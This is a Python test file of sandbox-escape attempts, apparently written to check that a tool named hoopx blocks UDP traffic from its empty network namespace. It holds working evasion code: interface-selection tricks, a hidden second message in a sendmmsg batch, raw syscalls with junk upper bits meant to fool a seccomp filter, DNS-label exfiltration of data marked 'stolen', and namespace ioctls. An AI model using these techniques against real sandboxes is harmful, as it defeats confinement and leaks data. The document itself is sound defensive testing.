"""datagrams.py ATTEMPT: UDP past the empty network namespace that hoopx makes its sockets in."""

import os

from attempts import *


def sends():
    quietly(udp().sendto, b"x", (OUTSIDE, 53))
    quietly(udp().sendmsg, [b"x"], [], 0, (OUTSIDE, 443))
    quietly(udp(socket.AF_INET6).sendto, b"x", (OUTSIDE6, 53))
    quietly(udp(socket.AF_INET6).sendto, b"x", ("::ffff:" + OUTSIDE, 54))
    client = udp()
    quietly(client.connect, (OUTSIDE, 55))
    quietly(client.send, b"x")
    quietly(os.write, client.fileno(), b"x")


def to_this_machine():
    for host, port in (("127.0.0.1", PORT), ("127.0.0.53", 53)):
        quietly(udp().sendto, b"x", (host, port))
    quietly(udp(socket.AF_INET6).sendto, b"x", ("::1", PORT))
    quietly(udp(socket.AF_INET6).sendto, b"x", ("::1", 53))
    client = udp(socket.AF_INET6)
    quietly(client.connect, ("::ffff:127.0.0.1", PORT))
    quietly(client.send, b"x")


def to_many():
    client = udp()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for host in ("255.255.255.255", "198.51.100.255", "224.0.0.251"):
        quietly(client.sendto, b"x", (host, 5353))
    six = udp(socket.AF_INET6)
    for index in range(1, 9):
        quietly(six.sendto, b"x", ("ff02::fb", 5353, 0, index))
        interface = struct.pack("=4s4si", bytes(4), bytes(4), index)
        quietly(client.setsockopt, socket.IPPROTO_IP, socket.IP_MULTICAST_IF, interface)
        quietly(client.sendto, b"x", ("224.0.0.252", 5353))


def through_another_interface():
    """IP_PKTINFO and IPV6_PKTINFO name the interface for one packet, SO_BINDTODEVICE and the like for all."""
    for index in range(1, 9):
        control = struct.pack("=i4s4s", index, bytes(4), bytes(4))
        quietly(udp().sendmsg, [b"x"], [(socket.IPPROTO_IP, 8, control)], 0, (OUTSIDE, 53))
        control = bytes(16) + struct.pack("=i", index)
        quietly(udp(socket.AF_INET6).sendmsg, [b"x"], [(socket.IPPROTO_IPV6, 50, control)], 0, (OUTSIDE6, 53))
        client = udp()
        quietly(client.setsockopt, socket.IPPROTO_IP, 50, struct.pack("!i", index))
        quietly(client.sendto, b"x", (OUTSIDE, 54))
        client = udp()
        quietly(client.setsockopt, socket.SOL_SOCKET, 62, index)
        quietly(client.sendto, b"x", (OUTSIDE, 55))
    client = udp()
    quietly(client.setsockopt, socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"exit0")
    quietly(client.sendto, b"x", (OUTSIDE, 56))


def second_entry_of_a_batch():
    """sendmmsg: the first message is harmless, the second is not."""
    client = udp()
    first, second = Message(b"x", sockaddr("127.0.0.1", 9)), Message(b"x", sockaddr(OUTSIDE, 53))
    batch = ctypes.create_string_buffer(first.bytes + bytes(8) + second.bytes + bytes(8))
    quietly(call, "sendmmsg", client.fileno(), batch, 2, 0)


def with_garbage_in_the_upper_halves():
    """The kernel reads 32 bits of a family, a type and flags; a filter that compares 64 would read something else."""
    socket_, sendto = {"x86_64": (41, 44), "aarch64": (198, 206)}[os.uname().machine]
    high = 0xDEAD << 32
    arguments = (socket_, high | socket.AF_INET, high | socket.SOCK_DGRAM, high)
    number = quietly(call, "syscall", *map(ctypes.c_long, arguments))
    target = ctypes.create_string_buffer(sockaddr(OUTSIDE, 53), 16)
    arguments = [ctypes.c_long(value) for value in (sendto, high | number)]
    quietly(call, "syscall", *arguments, b"x", ctypes.c_long(1), ctypes.c_long(high), target, ctypes.c_long(high | 16))


def a_name_to_a_server_of_its_choice():
    """A DNS query whose labels carry what is to leave, to a name server outside and to those of the machine."""
    label = b"stolen"
    query = b"\1\2\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\7example\3com\0\0\1\0\1"
    for host in (OUTSIDE, "127.0.0.53", "203.0.113.8"):
        client = udp()
        client.settimeout(0.1)
        quietly(client.sendto, query, (host, 53))
        quietly(client.recv, 512)
        client = tcp()
        quietly(client.connect, (host, 53))
        quietly(client.send, struct.pack(">H", len(query)) + query)


def configured_as_the_namespaces_owner():
    """The helper's namespace belongs to the target's user: its interfaces can be changed, but lead nowhere."""
    import fcntl

    client = udp()
    for number in (0x8914, 0x8916, 0x890B, 0x89A0):  # SIOCSIFFLAGS, SIOCSIFADDR, SIOCADDRT, SIOCBRADDBR
        quietly(fcntl.ioctl, client.fileno(), number, bytes(128))
    # SIOCGSKNS: the namespace itself, to be entered.
    namespace = quietly(fcntl.ioctl, client.fileno(), 0x894C)
    if isinstance(namespace, int):
        print("entered" if libc.setns(namespace, 0x40000000) == 0 else "got the namespace")
    quietly(client.sendto, b"x", (OUTSIDE, 53))


main(globals())
